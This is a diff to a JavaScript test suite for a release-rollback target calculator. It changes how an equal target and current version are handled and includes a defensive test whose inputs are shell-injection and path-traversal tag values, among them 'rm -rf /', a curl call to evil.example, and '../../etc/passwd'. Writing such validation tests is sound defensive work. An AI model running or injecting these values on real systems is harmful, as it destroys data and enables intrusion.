@@ -167,7 +167,16 @@ describe('compute-rollback-target on the demo release history', () => {
 
     it('a target newer than current', async () => {
       expectRefused(await withApi({ current: 'v1.1.0', target: 'v1.2.0' }), /^Input "target" names v1.2.0, which is newer than the current version v1.1.0: a rollback goes to an older release\./);
-      expectRefused(await withApi({ current: 'v1.2.0', target: 'v1.2.0' }), /^Input "target" names v1.2.0, which is the current version/);
+    });
+
+    it('a target equal to current is no error: the plan is that there is nothing to roll back', async () => {
+      const same = await withApi({ current: 'v1.2.0', target: 'v1.2.0' });
+      expectSuccess(same);
+      expect(same.outputs).toMatchObject({ 'current-tag': 'v1.2.0', 'target-tag': 'v1.2.0', 'nothing-to-roll-back': 'true', strategy: 'image-only', migrations: '[]' });
+      expect(same.outputs.verdict).toBe('v1.2.0 is already the current version: nothing to roll back.');
+      const different = await withApi({ current: 'v1.3.0', target: 'v1.2.0' });
+      expectSuccess(different);
+      expect(different.outputs['nothing-to-roll-back']).toBe('false');
     });
 
     it.each([['v1.2.0; rm -rf /'], ['$(curl evil.example)'], ['v1.2.0`id`'], ['v1.2.0 && true'], ['../../etc/passwd']])('a tag with shell metacharacters: %s', async (target) => {
